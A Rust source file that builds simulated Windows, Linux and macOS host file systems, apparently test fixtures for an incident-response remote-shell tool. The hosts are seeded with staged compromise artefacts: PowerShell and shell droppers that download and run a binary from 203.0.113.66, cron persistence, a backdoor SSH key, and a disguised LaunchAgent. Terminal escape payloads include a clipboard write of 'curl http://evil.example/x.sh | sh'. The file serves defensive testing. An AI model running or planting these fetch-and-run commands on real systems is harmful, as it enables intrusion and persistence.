//! The contents of the per-platform file-system templates: a realistic Windows, Linux and macOS
//! tree, the big generated logs every host carries, demo artefacts, and the hostile host's files.

use bytes::Bytes;

use super::fs::{Body, Template};
use super::paths::Flavor;
use crate::content::GenKind;
use rtrsh_command::Platform;

/// A large generated log present on every host (for chunking and download tests).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct BigFile {
    pub windows: &'static str,
    pub unix: &'static str,
    pub len: u64,
}

impl BigFile {
    /// The path of this file on a host of `platform`.
    pub fn path(&self, platform: Platform) -> &'static str {
        match platform {
            Platform::Windows => self.windows,
            Platform::Linux | Platform::Mac => self.unix,
        }
    }
}

const MIB: u64 = 1 << 20;

/// The big generated logs (1 MiB, 10 MiB, 100 MiB), exact sizes.
pub const BIG_FILES: [BigFile; 3] = [
    BigFile {
        windows: r"C:\Logs\big-1mb.log",
        unix: "/var/log/big-1mb.log",
        len: MIB,
    },
    BigFile {
        windows: r"C:\Logs\big-10mb.log",
        unix: "/var/log/big-10mb.log",
        len: 10 * MIB,
    },
    BigFile {
        windows: r"C:\Logs\big-100mb.log",
        unix: "/var/log/big-100mb.log",
        len: 100 * MIB,
    },
];

/// The hostile host's directory.
pub const HOSTILE_DIR: &str = r"C:\hostile";
/// Text full of terminal escape sequences (title, clear screen, OSC 52 clipboard, colours, BEL,
/// backspaces, carriage-return overwrites).
pub const HOSTILE_ESCAPES: &str = r"C:\hostile\escapes.txt";
/// Bytes that are not valid UTF-8.
pub const HOSTILE_INVALID_UTF8: &str = r"C:\hostile\invalid-utf8.bin";
/// One 10 MiB line.
pub const HOSTILE_LONG_LINE: &str = r"C:\hostile\long-line.txt";
pub const HOSTILE_LONG_LINE_LEN: u64 = 10 * MIB;
/// A file whose *name* carries an escape sequence (shows up in `ls`).
pub const HOSTILE_ESCAPE_NAME: &str = "\x1b]0;pwned\x07notes\x1b[2J.txt";

/// The text of [`HOSTILE_ESCAPES`].
pub const HOSTILE_ESCAPES_TEXT: &str = concat!(
    "quarterly numbers attached\r\n",
    "\x1b]0;pwned\x07window title changed\r\n",
    "\x1b[2J\x1b[Hscreen cleared\r\n",
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==\x07clipboard written\r\n",
    "\x1b[31mred text\x1b[0m and \x1b[1;5;32mblinking\x1b[0m\r\n",
    "bell\x07\x07\x07\r\n",
    "password: hunter2\x08\x08\x08\x08\x08\x08\x08*******\r\n",
    "all is fine\rEVERYTHING IS ON FIRE\r\n",
    "\x1bP+q544e\x1b\\device control string\r\n",
    "\x1b[6n cursor report request\r\n",
);

/// The bytes of [`HOSTILE_INVALID_UTF8`].
pub const HOSTILE_INVALID_BYTES: &[u8] = b"MZ\x90\x00\xff\xfe\xfd header \xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x28\x8c\xbc \xf8\xa1\xa1\xa1\xa1 \xed\xa0\x80 \xc0\xaf end\n";

fn bin(t: &mut Template, path: &str, len: u64) {
    t.generated(path, GenKind::Binary, len);
}

fn big_files(t: &mut Template) {
    for b in BIG_FILES {
        let path = b.path(t.flavor.platform);
        let key = t.generated(path, GenKind::LogLines, b.len);
        t.touch(&key, 60);
    }
}

const WIN_HOSTS: &str = "# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n#\r\n# This file contains the mappings of IP addresses to host names. Each\r\n# entry should be kept on an individual line. The IP address should\r\n# be placed in the first column followed by the corresponding host name.\r\n#\r\n# localhost name resolution is handled within DNS itself.\r\n#\t127.0.0.1       localhost\r\n#\t::1             localhost\r\n10.10.4.20\tfileserver.{domain}\r\n";

/// The Windows template (also the base of the hostile host's).
pub fn windows(hostile: bool) -> Template {
    let mut t = Template::new(Flavor::new(Platform::Windows));
    for d in [
        r"C:\$Recycle.Bin",
        r"C:\PerfLogs",
        r"C:\Program Files\Common Files\microsoft shared",
        r"C:\Program Files\WindowsApps",
        r"C:\Program Files (x86)\Common Files",
        r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp",
        r"C:\Users\Public\Documents",
        r"C:\Users\Public\Downloads",
        r"C:\Users\Default\AppData",
        r"C:\Users\{user}\Pictures",
        r"C:\Users\{user}\Music",
        r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Recent",
        r"C:\Windows\System32\Tasks\Microsoft\Windows",
        r"C:\Windows\System32\LogFiles\Firewall",
        r"C:\Windows\System32\drivers\CrowdStrike\rtr\putrun",
        r"C:\Windows\SysWOW64",
        r"C:\Windows\Fonts",
        r"C:\Windows\INF",
        r"C:\Windows\Logs\CBS",
    ] {
        t.dir(d);
    }
    for (p, len) in [
        (r"C:\Windows\explorer.exe", 5_165_056),
        (r"C:\Windows\notepad.exe", 201_216),
        (r"C:\Windows\regedit.exe", 358_400),
        (r"C:\Windows\System32\cmd.exe", 323_584),
        (r"C:\Windows\System32\svchost.exe", 57_360),
        (r"C:\Windows\System32\lsass.exe", 84_424),
        (r"C:\Windows\System32\services.exe", 723_400),
        (r"C:\Windows\System32\winlogon.exe", 906_752),
        (r"C:\Windows\System32\csrss.exe", 17_464),
        (r"C:\Windows\System32\smss.exe", 157_312),
        (r"C:\Windows\System32\wininit.exe", 455_680),
        (r"C:\Windows\System32\taskhostw.exe", 101_656),
        (r"C:\Windows\System32\rundll32.exe", 71_680),
        (r"C:\Windows\System32\schtasks.exe", 235_520),
        (r"C:\Windows\System32\whoami.exe", 73_728),
        (r"C:\Windows\System32\kernel32.dll", 786_960),
        (r"C:\Windows\System32\ntdll.dll", 2_174_808),
        (r"C:\Windows\System32\advapi32.dll", 720_896),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            455_680,
        ),
        (r"C:\Windows\System32\config\SAM", 65_536),
        (r"C:\Windows\System32\config\SYSTEM", 18_874_368),
        (r"C:\Windows\System32\config\SOFTWARE", 94_371_840),
        (r"C:\Windows\System32\config\SECURITY", 65_536),
        (
            r"C:\Windows\System32\drivers\CrowdStrike\csagent.sys",
            3_624_448,
        ),
        (r"C:\Windows\System32\drivers\tcpip.sys", 3_375_568),
        (
            r"C:\Program Files\CrowdStrike\CSFalconService.exe",
            7_354_856,
        ),
        (
            r"C:\Program Files\CrowdStrike\CSFalconContainer.exe",
            1_986_552,
        ),
        (
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            3_111_464,
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            1_933_872,
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            42_364_448,
        ),
        (r"C:\Program Files\Windows Defender\MsMpEng.exe", 133_576),
        (r"C:\Program Files\7-Zip\7z.exe", 561_152),
        (
            r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
            4_113_952,
        ),
        (r"C:\Users\{user}\Documents\budget-2026.xlsx", 48_213),
        (r"C:\Users\{user}\Documents\Meeting Notes.docx", 23_551),
        (r"C:\Users\{user}\Desktop\Q3 Report.pptx", 1_204_331),
        (r"C:\Users\{user}\Downloads\ChromeSetup.exe", 1_378_384),
        (r"C:\Users\{user}\AppData\Local\Temp\~DF3A1C.tmp", 16_384),
        (r"C:\Windows\Temp\svch0st.exe", 184_320),
        (r"C:\Windows\Prefetch\CMD.EXE-0BD30981.pf", 3_418),
        (r"C:\Windows\Prefetch\POWERSHELL.EXE-022A1004.pf", 25_604),
        (r"C:\Windows\Prefetch\SVCH0ST.EXE-4F1C2A77.pf", 9_012),
    ] {
        bin(&mut t, p, len);
    }
    let k = t.generated(
        r"C:\Users\{user}\Downloads\invoice.pdf.exe",
        GenKind::Binary,
        734_208,
    );
    t.touch(&k, 2 * 86_400 + 3_600);
    let k = t.text(
        r"C:\Windows\Temp\update.ps1",
        "$c = New-Object Net.WebClient\r\n$c.DownloadFile('http://203.0.113.66/a.exe', \"$env:TEMP\\a.exe\")\r\nStart-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\r\n",
    );
    t.touch(&k, 2 * 86_400);
    t.text(r"C:\Windows\System32\drivers\etc\hosts", WIN_HOSTS);
    t.text(
        r"C:\Windows\System32\drivers\etc\networks",
        "# Copyright (c) 1993-1999 Microsoft Corp.\r\n#\r\n# This file contains network name/network number mappings for\r\n# local networks. Network numbers are recognized in dotted decimal form.\r\n#\r\n# Format:\r\n#\r\n# <network name>  <network number>     [aliases...]  [#<comment>]\r\n#\r\nloopback                 127\r\ncampus                   284.122.107\r\nlondon                   284.122.108\r\n",
    );
    t.text(
        r"C:\Windows\System32\drivers\etc\protocol",
        "ip       0     IP       # Internet protocol\r\nicmp     1     ICMP     # Internet control message protocol\r\ntcp      6     TCP      # Transmission control protocol\r\nudp      17    UDP      # User datagram protocol\r\n",
    );
    t.text(
        r"C:\Windows\win.ini",
        "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n[Mail]\r\nMAPI=1\r\n",
    );
    t.text(
        r"C:\Windows\System32\LogFiles\Firewall\pfirewall.log",
        "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path\r\n\r\n2026-11-22 09:58:12 ALLOW TCP {ip} 203.0.113.66 51544 80 0 - 0 0 0 - - - SEND\r\n2026-11-22 09:58:40 ALLOW UDP {ip} 10.10.0.2 60211 53 0 - - - - - - - SEND\r\n",
    );
    t.text(
        r"C:\Users\{user}\Desktop\notes.txt",
        "TODO\r\n- renew VPN certificate\r\n- ask IT about the invoice email from billing@paypa1-support.example\r\n- {hostname} backup runs nightly at 02:00\r\n",
    );
    t.text(
        r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.lnk",
        "L\u{0}\u{0}\u{0}shortcut to C:\\Windows\\Temp\\svch0st.exe\r\n",
    );
    t.text(
        r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt",
        "Get-ChildItem C:\\Users\\{user}\\Downloads\r\nipconfig /all\r\nnet group \"Domain Admins\" /domain\r\nInvoke-WebRequest http://203.0.113.66/a.exe -OutFile $env:TEMP\\a.exe\r\n",
    );
    t.text(
        r"C:\ProgramData\Microsoft\Windows Defender\Support\MPLog-20261101-081502.log",
        "2026-11-22T09:58:44.112Z Threat detected: Trojan:Win32/Wacatac.B!ml, path C:\\Users\\{user}\\Downloads\\invoice.pdf.exe\r\n2026-11-22T09:58:44.530Z Action: Quarantine failed (0x80508023)\r\n",
    );
    t.text(
        r"C:\Windows\Logs\CBS\CBS.log",
        "2026-11-20 03:01:12, Info                  CBS    Starting TrustedInstaller initialization.\r\n2026-11-20 03:01:12, Info                  CBS    Loaded Servicing Stack v10.0.22621.4391\r\n2026-11-20 03:01:14, Info                  CBS    Session: 31135297_1290348312 initialized by client WindowsUpdateAgent.\r\n",
    );
    t.text(
        r"C:\Users\Public\Documents\readme.txt",
        "Shared documents for {netbios} staff.\r\n",
    );
    big_files(&mut t);
    if hostile {
        t.text(HOSTILE_ESCAPES, HOSTILE_ESCAPES_TEXT);
        t.file(
            HOSTILE_INVALID_UTF8,
            Body::Bytes(Bytes::from_static(HOSTILE_INVALID_BYTES)),
        );
        t.generated(
            HOSTILE_LONG_LINE,
            GenKind::SingleLine,
            HOSTILE_LONG_LINE_LEN,
        );
        t.text(
            &format!(r"{HOSTILE_DIR}\{HOSTILE_ESCAPE_NAME}"),
            "\x1b[?1049h\x1b[8mhidden\x1b[0m\n",
        );
        t.text(
            &format!("{HOSTILE_DIR}\\\x1b[31mred\x1b[0m.txt"),
            "red file\n",
        );
    }
    t.finish();
    t
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\nsystemd-network:x:100:102:systemd Network Management,,,:/run/systemd:/usr/sbin/nologin\nsshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n{user}:x:1000:1000:{user},,,:/home/{user}:/bin/bash\npostgres:x:113:120:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash\n";

/// The Linux template.
pub fn linux() -> Template {
    let mut t = Template::new(Flavor::new(Platform::Linux));
    for d in [
        "/boot/grub",
        "/dev",
        "/lib/systemd/system",
        "/lost+found",
        "/media",
        "/mnt",
        "/opt/CrowdStrike",
        "/proc",
        "/run/sshd",
        "/sbin",
        "/snap",
        "/srv",
        "/sys",
        "/usr/lib/python3",
        "/usr/local/bin",
        "/usr/share/doc",
        "/var/cache/apt",
        "/var/lib/dpkg",
        "/var/spool/cron/crontabs",
        "/var/tmp",
        "/home/{user}/.ssh",
        "/home/{user}/projects",
        "/tmp/.X11-unix",
    ] {
        t.dir(d);
    }
    for (p, len) in [
        ("/usr/bin/bash", 1_396_520),
        ("/usr/bin/ls", 138_208),
        ("/usr/bin/cat", 35_280),
        ("/usr/bin/curl", 260_328),
        ("/usr/bin/wget", 523_448),
        ("/usr/bin/python3.10", 5_912_936),
        ("/usr/bin/ssh", 846_568),
        ("/usr/bin/sudo", 232_416),
        ("/usr/sbin/sshd", 921_480),
        ("/usr/sbin/cron", 55_944),
        ("/usr/sbin/nginx", 1_203_392),
        ("/bin/sh", 125_688),
        ("/opt/CrowdStrike/falcond", 9_846_104),
        ("/opt/CrowdStrike/falconctl", 6_104_328),
        ("/boot/vmlinuz-5.15.0-124-generic", 11_780_520),
        ("/var/lib/dpkg/status", 1_118_213),
        ("/tmp/.X11-unix/kworkerds", 2_342_912),
    ] {
        bin(&mut t, p, len);
    }
    t.text("/etc/passwd", PASSWD);
    t.text(
        "/etc/group",
        "root:x:0:\nadm:x:4:syslog,{user}\nsudo:x:27:{user}\nwww-data:x:33:\n{user}:x:1000:\n",
    );
    t.text(
        "/etc/shadow",
        "root:*:19800:0:99999:7:::\n{user}:$6$rounds=656000$Zx8e$yQe0v1l5o3sIXnDR0d5m2nS0YpVv1e.:19990:0:99999:7:::\n",
    );
    t.text("/etc/hostname", "{hostname_lower}\n");
    t.text(
        "/etc/hosts",
        "127.0.0.1 localhost\n127.0.1.1 {hostname_lower}.{domain} {hostname_lower}\n{ip} {hostname_lower}\n\n# The following lines are desirable for IPv6 capable hosts\n::1     ip6-localhost ip6-loopback\nfe00::0 ip6-localnet\nff00::0 ip6-mcastprefix\n",
    );
    t.text(
        "/etc/os-release",
        "PRETTY_NAME=\"Ubuntu 22.04.5 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nVERSION=\"22.04.5 LTS (Jammy Jellyfish)\"\nVERSION_CODENAME=jammy\nID=ubuntu\nID_LIKE=debian\nHOME_URL=\"https://www.ubuntu.com/\"\nSUPPORT_URL=\"https://help.ubuntu.com/\"\nBUG_REPORT_URL=\"https://bugs.launchpad.net/ubuntu/\"\nUBUNTU_CODENAME=jammy\n",
    );
    t.text(
        "/etc/resolv.conf",
        "# This is /run/systemd/resolve/stub-resolv.conf managed by man:systemd-resolved(8).\nnameserver 127.0.0.53\noptions edns0 trust-ad\nsearch {domain}\n",
    );
    t.text(
        "/etc/fstab",
        "# <file system> <mount point>   <type>  <options>       <dump>  <pass>\nUUID=3f1c9a52-7d1e-4b8a-9f2e-1b6c0d4e8a77 /               ext4    errors=remount-ro 0       1\nUUID=9A1B-3C4D  /boot/efi       vfat    umask=0077      0       1\n/swap.img       none            swap    sw              0       0\n",
    );
    t.text(
        "/etc/crontab",
        "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )\n*/5 * * * *\troot\t/tmp/.X11-unix/kworkerds >/dev/null 2>&1\n",
    );
    t.text(
        "/etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nPort 22\nPermitRootLogin prohibit-password\nPubkeyAuthentication yes\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\nSubsystem sftp /usr/lib/openssh/sftp-server\n",
    );
    t.text(
        "/home/{user}/.bashrc",
        "# ~/.bashrc: executed by bash(1) for non-login shells.\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\nalias ll='ls -alF'\nalias la='ls -A'\n",
    );
    t.text(
        "/home/{user}/.bash_history",
        "sudo apt update\nsudo systemctl status nginx\ncd /var/www/html\ncurl -s http://203.0.113.66/k.sh | sudo bash\nhistory -c\n",
    );
    t.text(
        "/home/{user}/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx3c0ZpbmFuY2VCYWNrdXBLZXkxMjM0NTY3ODkw {user}@laptop\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDk1x2y3z4 root@203.0.113.66\n",
    );
    t.text(
        "/home/{user}/projects/README.md",
        "# deploy scripts\n\nRun `./deploy.sh prod` from {hostname_lower}.\n",
    );
    t.text(
        "/root/.bash_history",
        "apt-get install -y nginx\nsystemctl enable --now nginx\n/opt/CrowdStrike/falconctl -g --cid\n",
    );
    t.text(
        "/var/www/html/index.html",
        "<!DOCTYPE html>\n<html><head><title>Welcome to nginx!</title></head>\n<body><h1>Welcome to nginx!</h1></body></html>\n",
    );
    t.text(
        "/var/log/syslog",
        "Nov 22 10:00:01 {hostname_lower} CRON[21877]: (root) CMD (/tmp/.X11-unix/kworkerds >/dev/null 2>&1)\nNov 22 10:02:13 {hostname_lower} systemd[1]: Starting Daily apt download activities...\nNov 22 10:02:19 {hostname_lower} systemd[1]: apt-daily.service: Deactivated successfully.\nNov 22 10:05:01 {hostname_lower} CRON[21934]: (root) CMD (/tmp/.X11-unix/kworkerds >/dev/null 2>&1)\nNov 22 10:09:44 {hostname_lower} falcond[812]: CrowdStrike(4): Sensor heartbeat OK\n",
    );
    t.text(
        "/var/log/auth.log",
        "Nov 22 09:41:02 {hostname_lower} sshd[21502]: Failed password for invalid user admin from 198.51.100.23 port 53122 ssh2\nNov 22 09:41:05 {hostname_lower} sshd[21502]: Failed password for invalid user admin from 198.51.100.23 port 53122 ssh2\nNov 22 09:43:17 {hostname_lower} sshd[21533]: Accepted publickey for {user} from 10.10.8.14 port 50112 ssh2: ED25519 SHA256:Qm3kY3x0\nNov 22 09:43:17 {hostname_lower} sshd[21533]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)\nNov 22 09:44:09 {hostname_lower} sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/bash\n",
    );
    t.text(
        "/var/log/kern.log",
        "Nov 22 08:00:03 {hostname_lower} kernel: [    0.000000] Linux version 5.15.0-124-generic (buildd@lcy02-amd64-089) (gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0) #134-Ubuntu SMP\nNov 22 08:00:03 {hostname_lower} kernel: [    0.000000] Command line: BOOT_IMAGE=/vmlinuz-5.15.0-124-generic root=/dev/mapper/ubuntu--vg-ubuntu--lv ro\n",
    );
    t.text(
        "/var/log/dpkg.log",
        "2026-11-18 06:12:40 startup archives unpack\n2026-11-18 06:12:41 upgrade openssl:amd64 3.0.2-0ubuntu1.17 3.0.2-0ubuntu1.18\n2026-11-18 06:12:43 status installed openssl:amd64 3.0.2-0ubuntu1.18\n",
    );
    t.text(
        "/var/spool/cron/crontabs/root",
        "# m h  dom mon dow   command\n*/5 * * * * /tmp/.X11-unix/kworkerds >/dev/null 2>&1\n",
    );
    let k = t.text(
        "/tmp/k.sh",
        "#!/bin/sh\ncurl -s http://203.0.113.66/kworkerds -o /tmp/.X11-unix/kworkerds\nchmod +x /tmp/.X11-unix/kworkerds\n(crontab -l; echo '*/5 * * * * /tmp/.X11-unix/kworkerds') | crontab -\n",
    );
    t.touch(&k, 26 * 3600);
    for (log, ago) in [
        ("/var/log/syslog", 300),
        ("/var/log/auth.log", 1_900),
        ("/var/log/kern.log", 8_100),
        ("/var/log/dpkg.log", 4 * 86_400),
    ] {
        let key = t.flavor.key_of(&t.flavor.components(log));
        t.touch(&key, ago);
    }
    big_files(&mut t);
    t.finish();
    t
}

/// The macOS template.
pub fn mac() -> Template {
    let mut t = Template::new(Flavor::new(Platform::Mac));
    for d in [
        "/Applications/Safari.app/Contents",
        "/Applications/Utilities/Terminal.app/Contents",
        "/Applications/Slack.app/Contents",
        "/Library/Application Support/CrowdStrike",
        "/Library/Preferences",
        "/System/Library/Extensions",
        "/Users/Shared",
        "/Users/{user}/Desktop",
        "/Users/{user}/Documents",
        "/Users/{user}/Library/Application Support",
        "/Users/{user}/Library/Caches",
        "/Volumes/Macintosh HD",
        "/cores",
        "/opt/homebrew/bin",
        "/private/tmp",
        "/private/var/db",
        "/private/var/folders",
        "/tmp",
        "/sbin",
        "/dev",
    ] {
        t.dir(d);
    }
    for (p, len) in [
        (
            "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
            2_936_224,
        ),
        ("/Applications/Falcon.app/Contents/MacOS/Falcon", 1_482_064),
        (
            "/Applications/Falcon.app/Contents/Resources/falconctl",
            4_024_640,
        ),
        ("/Applications/zoom.us.app/Contents/MacOS/zoom.us", 312_848),
        ("/bin/bash", 1_310_224),
        ("/bin/zsh", 1_361_168),
        ("/bin/ls", 154_624),
        ("/usr/bin/curl", 204_224),
        ("/usr/bin/python3", 167_120),
        ("/usr/sbin/sshd", 1_098_864),
        ("/Users/{user}/Downloads/Invoice_2026-11.dmg", 3_211_264),
        (
            "/Users/{user}/Library/Application Support/.helper/helperd",
            812_032,
        ),
    ] {
        bin(&mut t, p, len);
    }
    t.text(
        "/System/Library/CoreServices/SystemVersion.plist",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\">\n<dict>\n\t<key>ProductBuildVersion</key>\n\t<string>23H222</string>\n\t<key>ProductName</key>\n\t<string>macOS</string>\n\t<key>ProductVersion</key>\n\t<string>14.7.1</string>\n</dict>\n</plist>\n",
    );
    t.text(
        "/Library/LaunchDaemons/com.crowdstrike.falcond.plist",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\">\n<dict>\n\t<key>Label</key>\n\t<string>com.crowdstrike.falcond</string>\n\t<key>RunAtLoad</key>\n\t<true/>\n</dict>\n</plist>\n",
    );
    t.text(
        "/Users/{user}/Library/LaunchAgents/com.apple.updates.helper.plist",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\">\n<dict>\n\t<key>Label</key>\n\t<string>com.apple.updates.helper</string>\n\t<key>ProgramArguments</key>\n\t<array>\n\t\t<string>/Users/{user}/Library/Application Support/.helper/helperd</string>\n\t</array>\n\t<key>RunAtLoad</key>\n\t<true/>\n\t<key>KeepAlive</key>\n\t<true/>\n</dict>\n</plist>\n",
    );
    t.text(
        "/Users/{user}/.zsh_history",
        ": 1795200000:0;brew update\n: 1795200100:0;open ~/Downloads/Invoice_2026-11.dmg\n: 1795200160:0;sudo spctl --master-disable\n",
    );
    t.text(
        "/Users/{user}/Desktop/todo.txt",
        "- expense report\n- 1:1 with manager\n- {hostname} needs the Sonoma update\n",
    );
    t.text(
        "/Users/{user}/Documents/roadmap.md",
        "# Roadmap\n\n* Q1: ship the new onboarding\n* Q2: SSO everywhere\n",
    );
    let hosts = "##\n# Host Database\n#\n# localhost is used to configure the loopback interface\n# when the system is booting.  Do not change this entry.\n##\n127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n";
    t.text("/private/etc/hosts", hosts);
    t.text("/etc/hosts", hosts);
    t.text(
        "/etc/passwd",
        "##\n# User Database\n##\nnobody:*:-2:-2:Unprivileged User:/var/empty:/usr/bin/false\nroot:*:0:0:System Administrator:/var/root:/bin/sh\ndaemon:*:1:1:System Services:/var/root:/usr/bin/false\n",
    );
    let system_log = "Nov 22 09:57:31 {hostname} com.apple.xpc.launchd[1] (com.apple.updates.helper): Service only ran for 0 seconds. Pushing respawn out by 10 seconds.\nNov 22 10:01:02 {hostname} syslogd[118]: ASL Sender Statistics\nNov 22 10:09:44 {hostname} falcond[402]: Sensor heartbeat OK\n";
    t.text("/private/var/log/system.log", system_log);
    t.text("/var/log/system.log", system_log);
    t.text(
        "/private/var/log/install.log",
        "2026-11-18 06:12:40-08 {hostname} softwareupdated[612]: Installed \"macOS Sonoma 14.7.1\"\n",
    );
    big_files(&mut t);
    t.finish();
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_are_small_and_hold_the_big_files() {
        for t in [windows(true), linux(), mac()] {
            assert!(t.len() > 60 && t.len() < 2_000, "{}", t.len());
            for b in BIG_FILES {
                let f = t.flavor;
                let key = f.key_of(&f.components(b.path(f.platform)));
                assert!(t.node(&key).is_some(), "{key}");
            }
        }
    }
}
